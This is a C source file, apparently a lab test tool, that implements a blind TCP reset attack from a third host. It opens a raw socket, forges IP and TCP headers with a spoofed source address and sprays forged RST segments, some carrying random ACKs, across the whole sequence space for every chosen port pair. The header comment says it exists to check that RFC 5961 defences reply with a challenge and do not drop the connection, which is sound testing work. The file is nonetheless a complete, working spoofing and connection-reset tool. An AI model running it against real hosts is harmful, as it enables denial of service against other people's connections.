// SPDX-License-Identifier: BSD-2-Clause
/*
 * rst.c - a blind attacker: forged RSTs from a host that is neither end of the connection.
 *
 * Room: tests/lab. Stands alone; test_fooled.sh runs it on a third host. It knows addresses and
 * ports, or tries all of them, but no sequence number: for each pair of ports it sends COUNT RSTs
 * spread evenly over the sequence space from a random start. With COUNT above 2^32 / window one of
 * them falls into the window, which RFC 5961 answers with a challenge and not with an end.
 *
 * Every second RST carries an ACK of as random a number: a connection attempt heeds no other.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SEQUENCE_SPACE (1ULL << 32)
/* Bursts that a receive backlog of 1000 packets takes without a drop, and time to work them off. */
#define BURST_PACKETS  128
#define BURST_PAUSE_NS 500000L
#define TTL_HOPS       64

enum { EXIT_USAGE = 2 };

struct ports {
	unsigned int first;
	unsigned int last;
};

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

struct pseudo_header {
	uint32_t saddr;
	uint32_t daddr;
	uint8_t zero;
	uint8_t protocol;
	uint16_t length;
	struct tcphdr tcp;
} __attribute__((packed));

struct attack {
	int fd;
	struct in_addr from;
	struct in_addr to;
	unsigned long long sent;
	unsigned long long failed;
};

static uint16_t checksum(const void *data, size_t size)
{
	const uint8_t *bytes = data;
	uint32_t sum = 0;
	size_t i;

	for (i = 0; i + 1 < size; i += 2)
		/* NOLINTNEXTLINE(clang-analyzer-core.*): it does not follow bytes of bit-fields. */
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* The kernel fills in the IP checksum and length of what is sent with IP_HDRINCL. */
static void forge(const struct attack *attack, struct segment *segment, unsigned int from_port,
		  unsigned int to_port, uint32_t seq, bool with_ack)
{
	struct pseudo_header pseudo = {.protocol = IPPROTO_TCP};

	memset(segment, 0, sizeof(*segment));
	segment->ip.version = IPVERSION;
	segment->ip.ihl = sizeof(segment->ip) / 4;
	segment->ip.ttl = TTL_HOPS;
	segment->ip.protocol = IPPROTO_TCP;
	segment->ip.saddr = attack->from.s_addr;
	segment->ip.daddr = attack->to.s_addr;
	segment->tcp.source = htons((uint16_t)from_port);
	segment->tcp.dest = htons((uint16_t)to_port);
	segment->tcp.seq = htonl(seq);
	segment->tcp.doff = sizeof(segment->tcp) / 4;
	segment->tcp.rst = 1;
	segment->tcp.ack = with_ack;
	segment->tcp.ack_seq = with_ack ? htonl(~seq) : 0;
	pseudo.saddr = segment->ip.saddr;
	pseudo.daddr = segment->ip.daddr;
	pseudo.length = htons(sizeof(segment->tcp));
	pseudo.tcp = segment->tcp;
	segment->tcp.check = checksum(&pseudo, sizeof(pseudo));
}

static void send_one(struct attack *attack, unsigned int from_port, unsigned int to_port,
		     uint32_t seq, bool with_ack)
{
	static const struct timespec pause = {.tv_nsec = BURST_PAUSE_NS};
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = attack->to};
	struct segment segment;

	forge(attack, &segment, from_port, to_port, seq, with_ack);
	if (sendto(attack->fd, &segment, sizeof(segment), 0, (struct sockaddr *)&to, sizeof(to)) ==
	    sizeof(segment))
		attack->sent++;
	else
		attack->failed++;
	if ((attack->sent + attack->failed) % BURST_PACKETS == 0)
		nanosleep(&pause, NULL);
}

static void send_pair(struct attack *attack, unsigned int from_port, unsigned int to_port,
		      unsigned long long count)
{
	unsigned long long i;
	uint32_t start = 0;

	if (getrandom(&start, sizeof(start), 0) != sizeof(start))
		start = (uint32_t)getpid();
	for (i = 0; i < count; i++)
		send_one(attack, from_port, to_port, start + (uint32_t)(SEQUENCE_SPACE / count * i),
			 (start + i) & 1);
}

static bool read_port(unsigned int *port, const char **text)
{
	char *end;
	unsigned long number = strtoul(*text, &end, 10);

	if (!isdigit((unsigned char)**text) || !number || number > UINT16_MAX)
		return false;
	*port = (unsigned int)number;
	*text = end;
	return true;
}

static bool read_ports(struct ports *ports, const char *text)
{
	if (!read_port(&ports->first, &text))
		return false;
	ports->last = ports->first;
	if (*text == '-') {
		text++;
		if (!read_port(&ports->last, &text))
			return false;
	}
	return !*text && ports->first <= ports->last;
}

int main(int argc, char **argv)
{
	unsigned long long count = argc == 6 ? strtoull(argv[5], NULL, 10) : 0;
	struct attack attack = {.fd = -1};
	struct ports from, to;
	unsigned int source, target;

	if (argc != 6 || inet_pton(AF_INET, argv[1], &attack.from) != 1 ||
	    !read_ports(&from, argv[2]) || inet_pton(AF_INET, argv[3], &attack.to) != 1 ||
	    !read_ports(&to, argv[4]) || !count || count > SEQUENCE_SPACE) {
		fputs("Usage: lab_rst FROM_ADDR PORT[-PORT] TO_ADDR PORT[-PORT] COUNT\n"
		      "Sends COUNT forged RSTs per pair of ports, spread over the sequence "
		      "space.\n",
		      stderr);
		return EXIT_USAGE;
	}
	attack.fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (attack.fd < 0) {
		fprintf(stderr, "lab_rst: cannot open a raw socket: %s\n", strerror(errno));
		return EXIT_FAILURE;
	}
	for (source = from.first; source <= from.last; source++)
		for (target = to.first; target <= to.last; target++)
			send_pair(&attack, source, target, count);
	close(attack.fd);
	printf("{\"sent\":%llu,\"failed\":%llu}\n", attack.sent, attack.failed);
	return attack.failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
